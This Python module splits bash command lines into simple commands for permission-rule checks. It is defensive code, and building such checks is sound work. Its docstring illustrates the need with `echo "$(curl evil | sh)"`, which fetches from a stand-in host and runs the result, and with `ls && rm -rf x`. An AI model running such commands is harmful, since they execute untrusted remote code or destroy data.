"""Split a bash command line into the simple commands it would run, for the approval rules.

`ls && rm -rf x` is two commands; so is `echo "$(curl evil | sh)"` (three, in fact). An allow
rule must match every one of them, so the splitter has to see what bash sees: quotes, escapes,
`&&`, `||`, `;`, `|`, `&`, newlines, `$(…)`, backticks, process substitution, subshells and
heredoc bodies (data, not commands). It is a scanner, not a full bash parser: whatever it does
not understand (loops, `case`, function definitions, unbalanced quotes) makes it give up, and a
command it gives up on is asked about, never allowed by a rule.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

_PLAIN = re.compile(r"[^\\'\"`$<>()#&|;\n]+")  # characters that mean nothing special
_SEPARATORS = ("&&", "||", "|&", ";", "|", "&", "\n")
_REDIRECTIONS = ("<<<", "<<-", "&>>", "<<", ">>", ">&", "<&", ">|", "<>", "&>", ">", "<")
# Words that open or close a compound command but run nothing themselves.
_PREFIX_WORDS = frozenset({"!", "{", "if", "then", "else", "elif", "do", "while", "until", "time"})
_CLOSING_WORDS = frozenset({"}", "fi", "done"})
# Constructs whose parts cannot be told apart by scanning: give up on them.
_UNSUPPORTED_WORDS = frozenset({"for", "case", "select", "function", "coproc", "esac", ";;"})


class Unparsable(ValueError):
    """The command uses syntax the splitter does not follow."""


def split_commands(command: str) -> list[str] | None:
    """The simple commands in `command`, in order, or None when it cannot be split safely.

    Each command keeps its text as written (quotes included), trimmed; a command substitution
    stays in the text of the command that contains it and is listed on its own as well, before
    it (inner commands come first, as bash runs them).
    """
    try:
        scanner = _Scanner(command)
        scanner.scan(closing=None)
        return [part for part in (_clean(text) for text in scanner.parts) if part]
    except Unparsable:
        return None


def _clean(text: str) -> str:
    """Drop the compound-command words around a simple command; refuse what we cannot follow."""
    rest = text.strip()
    while rest:
        word = rest.split(None, 1)[0]
        if word in _UNSUPPORTED_WORDS:
            raise Unparsable(text)
        if word not in _PREFIX_WORDS:
            break
        rest = rest[len(word):].lstrip()
    if all(word in _CLOSING_WORDS for word in rest.split()):
        return ""
    return rest


@dataclass
class _Scanner:
    """A left-to-right scan that collects the text of each simple command in `parts`."""

    text: str
    pos: int = 0
    parts: list[str] = field(default_factory=list)
    # Heredocs opened on the current line: delimiter, strip tabs (`<<-`), body expanded.
    heredocs: list[tuple[str, bool, bool]] = field(default_factory=list)

    def scan(self, closing: str | None) -> None:
        """Scan commands until `closing` (`)` or a backtick) or the end of the text."""
        current: list[str] = []
        started = False  # whether the current command has more than blanks yet
        while self.pos < len(self.text):
            plain = _PLAIN.match(self.text, self.pos)
            if plain is not None:
                current.append(plain.group())
                started = started or not plain.group().isspace()
                self.pos = plain.end()
                continue
            char = self.text[self.pos]
            if closing is not None and char == closing:
                self.pos += 1
                self._finish(current)
                return
            if char == ")":
                raise Unparsable("unbalanced )")
            separator = self._separator()
            if separator is not None:
                self._finish(current)
                current, started = [], False
                if separator == "\n":
                    self._skip_heredoc_bodies()
                continue
            current.append(self._element(at_start=not started))
            started = True
        if closing is not None:
            raise Unparsable(f"missing {closing}")
        if self.heredocs:
            raise Unparsable("a heredoc without its body")
        self._finish(current)

    def _finish(self, current: list[str]) -> None:
        self.parts.append("".join(current))

    def _separator(self) -> str | None:
        text, pos = self.text, self.pos
        if text.startswith(("&>", ">&"), pos):
            return None  # a redirection, not the `&` separator
        for separator in _SEPARATORS:
            if text.startswith(separator, pos):
                if separator == ";" and text.startswith(";;", pos):
                    raise Unparsable("case")
                self.pos += len(separator)
                return separator
        return None

    def _element(self, at_start: bool) -> str:
        """Consume one piece of a command (a quoted string, a substitution, a redirection…)
        and return its text as written."""
        start, text = self.pos, self.text
        char = text[start]
        if char == "\\":
            self._escape()
        elif text.startswith("$'", start):
            self._ansi_c_quoted()
        elif char == "'":
            self._single_quoted()
        elif char == '"':
            self._double_quoted()
        elif char == "`":
            self.pos += 1
            self.scan(closing="`")
        elif text.startswith("$((", start):
            self._arithmetic()
        elif text.startswith(("$(", "<(", ">("), start):
            self.pos += 2
            self.scan(closing=")")
        elif char == "(":
            if not at_start:
                raise Unparsable("( inside a command")
            self.pos += 1
            self.scan(closing=")")
            return " "  # a subshell's commands are listed on their own
        elif char == "#" and self._word_start(start):
            self._comment()
            return ""  # a comment runs nothing, and must not make a rule match
        elif redirection := next((r for r in _REDIRECTIONS if text.startswith(r, start)), None):
            self.pos += len(redirection)
            if redirection in ("<<", "<<-"):
                self._heredoc(strip_tabs=redirection == "<<-")
        else:
            self.pos += 1
        return self.text[start:self.pos]

    def _word_start(self, index: int) -> bool:
        return index == 0 or self.text[index - 1] in " \t\n;&|()"

    def _escape(self) -> None:
        if self.pos + 1 >= len(self.text):
            raise Unparsable("a trailing backslash")
        self.pos += 2

    def _single_quoted(self) -> None:
        end = self.text.find("'", self.pos + 1)
        if end < 0:
            raise Unparsable("unterminated '")
        self.pos = end + 1

    def _ansi_c_quoted(self) -> None:
        """`$'…'`: single quotes in which a backslash escapes, `\\'` included."""
        self.pos += 2
        while self.pos < len(self.text):
            if self.text[self.pos] == "\\":
                self._escape()
            elif self.text[self.pos] == "'":
                self.pos += 1
                return
            else:
                self.pos += 1
        raise Unparsable("unterminated $'")

    def _double_quoted(self) -> None:
        self.pos += 1
        while self.pos < len(self.text):
            char = self.text[self.pos]
            if char == '"':
                self.pos += 1
                return
            if char == "\\":
                self._escape()
            elif char == "`":
                self.pos += 1
                self.scan(closing="`")
            elif self.text.startswith("$((", self.pos):
                self._arithmetic()
            elif self.text.startswith("$(", self.pos):
                self.pos += 2
                self.scan(closing=")")
            else:
                self.pos += 1
        raise Unparsable('unterminated "')

    def _arithmetic(self) -> None:
        """`$((…))`: arithmetic, no commands (a `$(` inside would still be found)."""
        self.pos += 3
        depth = 2
        while self.pos < len(self.text) and depth:
            if self.text.startswith("$(", self.pos):
                self.pos += 2
                self.scan(closing=")")
                continue
            depth += {"(": 1, ")": -1}.get(self.text[self.pos], 0)
            self.pos += 1
        if depth:
            raise Unparsable("unterminated $((")

    def _comment(self) -> None:
        end = self.text.find("\n", self.pos)
        self.pos = len(self.text) if end < 0 else end

    def _heredoc(self, strip_tabs: bool) -> None:
        """Note the delimiter of `<<WORD`; its body is skipped after the line ends."""
        while self.pos < len(self.text) and self.text[self.pos] in " \t":
            self.pos += 1
        start = self.pos
        while self.pos < len(self.text) and self.text[self.pos] not in " \t\n;&|<>()":
            if self.text[self.pos] in "'\"":
                self._single_quoted() if self.text[self.pos] == "'" else self._double_quoted()
            elif self.text[self.pos] == "\\":
                self._escape()
            else:
                self.pos += 1
        word = self.text[start:self.pos]
        delimiter = word.replace("'", "").replace('"', "").replace("\\", "")
        if not delimiter:
            raise Unparsable("<< without a delimiter")
        self.heredocs.append((delimiter, strip_tabs, delimiter == word))

    def _skip_heredoc_bodies(self) -> None:
        """After a newline: skip the bodies of the heredocs that line opened."""
        for delimiter, strip_tabs, expanded in self.heredocs:
            while True:
                if self.pos >= len(self.text):
                    raise Unparsable(f"heredoc {delimiter} never ends")
                end = self.text.find("\n", self.pos)
                end = len(self.text) if end < 0 else end
                line = self.text[self.pos:end]
                self.pos = min(end + 1, len(self.text))
                if (line.lstrip("\t") if strip_tabs else line) == delimiter:
                    break
                if expanded and ("$(" in line or "`" in line):
                    # An unquoted delimiter: bash runs substitutions in the body.
                    raise Unparsable("a command substitution in a heredoc body")
        self.heredocs.clear()
